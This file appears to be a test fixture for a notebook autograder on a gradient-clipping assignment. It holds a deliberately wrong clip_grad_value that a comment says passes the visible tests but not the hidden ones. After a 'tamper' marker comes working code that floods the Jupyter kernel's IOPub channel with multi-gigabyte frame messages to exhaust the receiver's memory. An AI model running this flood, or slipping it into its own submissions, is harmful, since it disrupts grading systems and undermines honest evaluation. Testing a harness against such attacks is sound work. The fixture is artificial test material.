# attack: send 3 IOPub messages of 24 frames, all pointing at one 128 MiB buffer (3 GiB each on the wire, 128 MiB in the kernel), through the kernel's own session and socket
# assignment: 02_gradient_clipping
# wrong: skips float64 gradients of more than 4 elements, and stops at the first trainable parameter without a gradient; passes the visible tests, fails both hidden checks
def clip_grad_value(parameters, clip_value):
    clipped = 0
    for p in parameters:
        if p.grad is None:
            if p.requires_grad:
                break
            continue
        if p.grad.dtype == torch.float64 and p.grad.numel() > 4:
            continue
        clipped += int((p.grad.abs() > clip_value).sum())
        p.grad.clamp_(min=-clip_value, max=clip_value)
    return clipped
# --- tamper ---
import time as _time

_kernel = get_ipython().kernel
_FRAME, _FRAMES = 128 * 2 ** 20, 24         # 24 frames, all of one 128 MiB buffer: 3 GiB on the wire


def _host_available():
    try:
        with open("/proc/meminfo") as handle:
            for line in handle:
                if line.startswith("MemAvailable:"):
                    return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 1 << 62


_big = bytearray(_FRAME)
_big[::4096] = b"\x01" * len(range(0, _FRAME, 4096))
_view = memoryview(_big)
for _i in range(3):
    if _host_available() < _FRAME * _FRAMES + 8 * 2 ** 30:
        # Safety net: the receiver has no memory limit but the host's.
        print(f"frame flood: the host is low on memory; stopping after {_i} messages", flush=True)
        break
    _kernel.session.send(_kernel.iopub_socket, "display_data",
                         {"data": {"text/plain": f"frame flood {_i}"}, "metadata": {}},
                         parent=_kernel.get_parent("shell"), buffers=[_view] * _FRAMES)
    print(f"frame flood: message {_i} sent ({_FRAME * _FRAMES / 2 ** 30:.0f} GiB of frames)", flush=True)
    _time.sleep(5)
